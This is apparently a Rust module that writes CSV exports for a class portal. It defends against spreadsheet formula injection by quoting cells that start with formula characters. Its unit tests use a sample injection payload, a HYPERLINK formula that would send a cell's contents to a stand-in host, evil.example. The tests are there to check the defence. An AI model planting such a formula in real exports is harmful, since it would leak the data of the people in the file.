//! The one way the portal writes CSV (the class usage table, usage reports, the audit log,
//! the one-time passwords of a roster import), so that no cell someone typed can turn into
//! a spreadsheet formula when the file is opened in Excel or LibreOffice (CSV injection).
//!
//! A cell is either [`Cell::Text`] or [`Cell::Number`]:
//! - text (usernames, display names, course codes, reasons, audit details, and anything
//!   else a person or another system typed) that starts with `=`, `+`, `-`, `@`, a tab or
//!   a carriage return (or their full-width forms `＝ ＋ － ＠`, which some spreadsheets
//!   also take as a formula) gets a single quote `'` in front, as OWASP recommends. A
//!   display name `-Ann-` is therefore written `'-Ann-`;
//! - numbers the portal formatted itself (slice-hours, counts, seconds) are written as they
//!   are, a negative one included, so a spreadsheet still reads them as numbers. A
//!   "number" that is not a plain decimal (`-?DIGITS[.DIGITS]`) is treated as text.

use std::borrow::Cow;

/// One cell of a record.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cell<'a> {
    /// Text from a person or another system: neutralised (see the module).
    Text(&'a str),
    /// A number the portal formatted: written as it is when it is a plain decimal number.
    Number(&'a str),
}

impl<'a> Cell<'a> {
    /// The text this cell is written as (before CSV quoting).
    pub fn written(&self) -> Cow<'a, str> {
        match *self {
            Cell::Number(text) if plain_number(text) => Cow::Borrowed(text),
            Cell::Number(text) | Cell::Text(text) => neutralise(text),
        }
    }
}

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// `text` with a `'` in front when it starts like a formula; unchanged otherwise.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// `-?DIGITS` or `-?DIGITS.DIGITS`.
fn plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = match digits.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (digits, None),
    };
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// A CSV file being written in memory: records quoted where needed, each cell neutralised.
pub struct CsvWriter {
    out: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter::new()
    }
}

impl CsvWriter {
    /// Records end in `\n`.
    pub fn new() -> CsvWriter {
        CsvWriter { out: csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new()) }
    }

    /// Records end in `\r\n` (files meant for spreadsheets on any system).
    pub fn with_crlf() -> CsvWriter {
        CsvWriter {
            out: csv::WriterBuilder::new()
                .has_headers(false)
                .terminator(csv::Terminator::CRLF)
                .from_writer(Vec::new()),
        }
    }

    /// The header line: the portal's own column names.
    pub fn header(&mut self, names: &[&str]) {
        let cells: Vec<Cell<'_>> = names.iter().map(|n| Cell::Text(n)).collect();
        self.row(&cells);
    }

    pub fn row(&mut self, cells: &[Cell<'_>]) {
        let written: Vec<Cow<'_, str>> = cells.iter().map(Cell::written).collect();
        // Writing to memory cannot fail; a record the writer refused would only be missing.
        let _ = self.out.write_record(written.iter().map(|c| c.as_bytes()));
    }

    /// Everything written, as text.
    pub fn finish(self) -> String {
        self.out
            .into_inner()
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
            .unwrap_or_default()
    }
}

/// One record as a line ending in `\n`, for files written a line at a time (the audit log
/// is streamed).
pub fn line(cells: &[Cell<'_>]) -> String {
    let mut out = CsvWriter::new();
    out.row(cells);
    out.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_starts_like_a_formula_gets_a_quote_in_front() {
        for (given, written) in [
            ("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")", "'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("-5", "'-5"),
            ("\tcmd", "'\tcmd"),
            ("\r=1", "'\r=1"),
            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
            ("Ann = Bob", "Ann = Bob"),
            ("alice", "alice"),
            ("2026-11-20T08:00:00Z", "2026-11-20T08:00:00Z"),
            ("", ""),
        ] {
            assert_eq!(Cell::Text(given).written(), written, "{given:?}");
        }
    }

    #[test]
    fn numbers_the_portal_wrote_stay_numbers_and_anything_else_is_text() {
        for plain in ["0", "12", "12.5", "-3", "-0.25"] {
            assert_eq!(Cell::Number(plain).written(), plain);
        }
        assert_eq!(Cell::Number("").written(), "");
        assert_eq!(Cell::Number("-1+1").written(), "'-1+1");
        assert_eq!(Cell::Number("=1").written(), "'=1");
        assert_eq!(Cell::Number("-1.-50").written(), "'-1.-50");
    }

    #[test]
    fn records_are_quoted_and_read_back_as_written() {
        let mut out = CsvWriter::new();
        out.header(&["name", "hours"]);
        out.row(&[Cell::Text("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")"), Cell::Number("-1.5")]);
        out.row(&[Cell::Text("line one\nline two"), Cell::Number("2")]);
        let text = out.finish();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][0], "'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")");
        assert_eq!(&rows[0][1], "-1.5");
        assert_eq!(&rows[1][0], "line one\nline two");
        assert!(text.lines().all(|l| !l.starts_with('=')), "{text}");
        assert_eq!(line(&[Cell::Text("@x"), Cell::Text("y")]), "'@x,y\n");
        let mut crlf = CsvWriter::with_crlf();
        crlf.row(&[Cell::Text("a"), Cell::Text("b")]);
        assert_eq!(crlf.finish(), "a,b\r\n");
    }
}
